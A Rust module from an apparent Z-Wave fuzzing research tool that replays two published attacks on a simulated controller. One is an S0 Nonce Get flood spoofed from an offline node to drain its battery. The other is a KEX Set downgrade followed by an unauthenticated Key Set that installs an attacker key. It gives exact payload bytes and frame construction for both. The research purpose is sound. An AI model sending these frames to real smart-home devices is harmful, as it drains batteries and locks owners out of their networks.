//! The attack-scenario library: end-to-end adversary campaigns that run
//! *concurrently* with a fuzzing campaign, reproducing the two published
//! Z-Wave attacks the paper's Section V grounds its impact analysis in.
//!
//! - **S0-No-More** ([`Scenario::S0NoMore`]): the attacker floods S0
//!   `Nonce Get` frames spoofed from a NodeID that is included in the
//!   controller's NVM but offline (a battery device whose radio is off).
//!   A vulnerable controller (bug #16) answers every request with a
//!   `Nonce Report`, burning transmit energy it budgets for sleepy-node
//!   wakeups — the oracle converts the metered spend into a
//!   [`zwave_controller::EffectKind::BatteryDrain`] verdict once the
//!   wake/TX budget is exhausted.
//! - **Crushing-the-Wave** ([`Scenario::CrushingTheWave`]): during a
//!   re-inclusion window the attacker first forces an S2→S0 downgrade
//!   with a `KEX Set` requesting only the S0 key (bug #17,
//!   [`zwave_controller::EffectKind::SecurityDowngrade`]), then resets
//!   the S0 network key with an unauthenticated `Key Set` (bug #18,
//!   [`zwave_controller::EffectKind::Lockout`]).
//!
//! A scenario is driven by a [`ScenarioDriver`] wrapping an
//! [`AttackerStation`]: every frame's fire time and bytes are pure
//! functions of `(scenario, seed, frame index)`, so attack campaigns are
//! bit-identical across worker counts and replayable from a trace header
//! exactly like plain fuzzing campaigns.

use std::time::Duration;

use zwave_protocol::frame::FrameControl;
use zwave_protocol::{ChecksumKind, HomeId, MacFrame, NodeId};
use zwave_radio::{AttackerSchedule, AttackerStation, Medium, SimInstant};

/// NodeID of the included-but-offline battery device whose identity the
/// S0-No-More attacker spoofs. The scenario preparation step inserts this
/// record into the controller's NVM; it never appears in a factory
/// testbed, so non-scenario campaigns are byte-identical to before.
pub const GHOST_NODE: NodeId = NodeId(0x05);

/// Node whose re-inclusion the Crushing-the-Wave attacker hijacks (the
/// S2 door lock of every testbed network).
pub(crate) const TARGET_NODE: NodeId = zwave_controller::LOCK_NODE;

/// The S0 network key the Crushing-the-Wave attacker installs via the
/// unauthenticated `Key Set` — a value the attacker knows, locking the
/// legitimate network out of its own S0 traffic.
pub const ATTACKER_KEY: [u8; 16] = [0xA7; 16];

/// Distance of the scripted adversary station from the controller
/// (within the paper's 10-70 m threat-model range).
pub(crate) const ATTACKER_POSITION_M: f64 = 30.0;

/// Which scripted adversary (if any) shares the medium with a campaign.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub enum Scenario {
    /// No adversary station: the plain fuzzing campaign.
    #[default]
    None,
    /// S0-No-More battery-drain DoS: NonceGet flood toward an offline
    /// NodeID (bug #16 → `BatteryDrain`).
    S0NoMore,
    /// Crushing-the-Wave inclusion downgrade and key reset (bugs #17 and
    /// #18 → `SecurityDowngrade` then `Lockout`).
    CrushingTheWave,
}

impl Scenario {
    /// Canonical CLI/JSON/trace-header name.
    pub fn name(self) -> &'static str {
        match self {
            Scenario::None => "none",
            Scenario::S0NoMore => "s0-no-more",
            Scenario::CrushingTheWave => "crushing-the-wave",
        }
    }

    /// Parses a canonical name; `None` for an unknown one.
    pub fn parse(name: &str) -> Option<Scenario> {
        Some(match name {
            "none" => Scenario::None,
            "s0-no-more" => Scenario::S0NoMore,
            "crushing-the-wave" => Scenario::CrushingTheWave,
            _ => return None,
        })
    }

    /// The two real attack scenarios (excluding [`Scenario::None`]).
    pub fn all() -> [Scenario; 2] {
        [Scenario::S0NoMore, Scenario::CrushingTheWave]
    }

    /// The transmission schedule of this scenario's adversary, anchored
    /// at the campaign start. `None` for [`Scenario::None`].
    pub(crate) fn schedule(self, anchor: SimInstant, seed: u64) -> Option<AttackerSchedule> {
        match self {
            Scenario::None => None,
            // An unbounded flood: half-second spacing drains the metered
            // wake/TX budget within the first virtual minute even on a
            // lossy channel.
            Scenario::S0NoMore => Some(AttackerSchedule {
                anchor,
                start: Duration::from_secs(2),
                period: Duration::from_millis(500),
                seed,
                count: None,
            }),
            // Twelve downgrade attempts then twelve key resets: enough
            // redundancy that impaired channels still deliver both
            // stages inside a one-minute budget.
            Scenario::CrushingTheWave => Some(AttackerSchedule {
                anchor,
                start: Duration::from_secs(3),
                period: Duration::from_millis(1500),
                seed,
                count: Some(24),
            }),
        }
    }

    /// The on-air bytes of attack frame `index` — a pure function of
    /// `(scenario, network identity, index)`, so scripts replay
    /// bit-identically. `None` when the scenario sends no such frame.
    pub(crate) fn frame_bytes(
        self,
        home_id: HomeId,
        controller: NodeId,
        index: u64,
    ) -> Option<Vec<u8>> {
        let (src, payload) = match self {
            Scenario::None => return None,
            // S0 Nonce Get spoofed from the offline ghost node.
            Scenario::S0NoMore => (GHOST_NODE, vec![0x98, 0x40]),
            // Phase 1 (indices 0-11): KEX Set requesting S0 only.
            Scenario::CrushingTheWave if index < 12 => (TARGET_NODE, vec![0x9F, 0x06, 0x80]),
            // Phase 2 (indices 12-23): unauthenticated S0 Key Set.
            Scenario::CrushingTheWave => {
                let mut payload = vec![0x98, 0x06];
                payload.extend_from_slice(&ATTACKER_KEY);
                (TARGET_NODE, payload)
            }
        };
        // Roll the 4-bit MAC sequence with the frame index so repeated
        // scripts are not suppressed by the receiver's duplicate filter
        // (window 8 < the 16-value sequence cycle).
        let fc = FrameControl::singlecast((index & 0x0F) as u8);
        MacFrame::try_new(home_id, src, fc, controller, payload, ChecksumKind::Cs8)
            .ok()
            .map(|frame| frame.encode())
    }
}

impl std::fmt::Display for Scenario {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.name())
    }
}

/// A scripted adversary bound to one campaign: an [`AttackerStation`]
/// plus the network identity its frames are crafted against.
///
/// The fuzzer services the driver once per injected test case; the
/// station transmits every attack frame whose fire time has passed (in
/// index order) and keeps a wakeup armed so outage-recovery event hops
/// land on attack instants instead of skipping them.
#[derive(Debug)]
pub struct ScenarioDriver {
    scenario: Scenario,
    home_id: HomeId,
    controller: NodeId,
    station: AttackerStation,
}

impl ScenarioDriver {
    /// Attaches the scenario's adversary station to `medium`, anchored at
    /// `anchor` (the campaign start). `None` for [`Scenario::None`].
    pub(crate) fn new(
        scenario: Scenario,
        medium: &Medium,
        anchor: SimInstant,
        seed: u64,
        home_id: HomeId,
        controller: NodeId,
    ) -> Option<Self> {
        let schedule = scenario.schedule(anchor, seed)?;
        Some(ScenarioDriver {
            scenario,
            home_id,
            controller,
            station: AttackerStation::attach(medium, ATTACKER_POSITION_M, schedule),
        })
    }

    /// Transmits every due attack frame and returns the indices sent
    /// this call (usually zero or one; a burst after an idle event hop).
    pub(crate) fn step(&mut self) -> Vec<u64> {
        let (scenario, home, ctrl) = (self.scenario, self.home_id, self.controller);
        let sent = self.station.service(|i| scenario.frame_bytes(home, ctrl, i));
        // The station never reads the medium; drop its captures so an
        // unbounded flood does not hoard receive buffers.
        let _ = self.station.radio().drain();
        sent
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_round_trip() {
        for scenario in [Scenario::None, Scenario::S0NoMore, Scenario::CrushingTheWave] {
            assert_eq!(Scenario::parse(scenario.name()), Some(scenario));
        }
        assert_eq!(Scenario::parse("s2-no-more"), None);
    }

    #[test]
    fn frame_bytes_are_pure_in_the_index() {
        let home = HomeId(0xE7DE3F3D);
        let ctrl = NodeId(0x01);
        for scenario in Scenario::all() {
            for i in 0..24 {
                assert_eq!(
                    scenario.frame_bytes(home, ctrl, i),
                    scenario.frame_bytes(home, ctrl, i),
                    "{scenario} frame {i}"
                );
            }
        }
        assert_eq!(Scenario::None.frame_bytes(home, ctrl, 0), None);
    }

    #[test]
    fn crushing_script_has_two_phases() {
        let home = HomeId(0xCD007171);
        let ctrl = NodeId(0x01);
        let kex = Scenario::CrushingTheWave.frame_bytes(home, ctrl, 0).unwrap();
        let reset = Scenario::CrushingTheWave.frame_bytes(home, ctrl, 12).unwrap();
        let kex_mac = MacFrame::decode(&kex).unwrap();
        let reset_mac = MacFrame::decode(&reset).unwrap();
        assert_eq!(kex_mac.payload(), [0x9F, 0x06, 0x80]);
        assert_eq!(reset_mac.payload()[..2], [0x98, 0x06]);
        assert_eq!(reset_mac.payload()[2..], ATTACKER_KEY);
        assert_eq!(kex_mac.src(), TARGET_NODE);
    }

    #[test]
    fn consecutive_frames_roll_the_mac_sequence() {
        let home = HomeId(0xE7DE3F3D);
        let ctrl = NodeId(0x01);
        let frames: Vec<Vec<u8>> =
            (0..16).map(|i| Scenario::S0NoMore.frame_bytes(home, ctrl, i).unwrap()).collect();
        // All 16 are pairwise distinct (the sequence nibble differs), so
        // no receiver-side duplicate window ever suppresses the flood.
        for (i, a) in frames.iter().enumerate() {
            for b in &frames[i + 1..] {
                assert_ne!(a, b);
            }
        }
    }
}
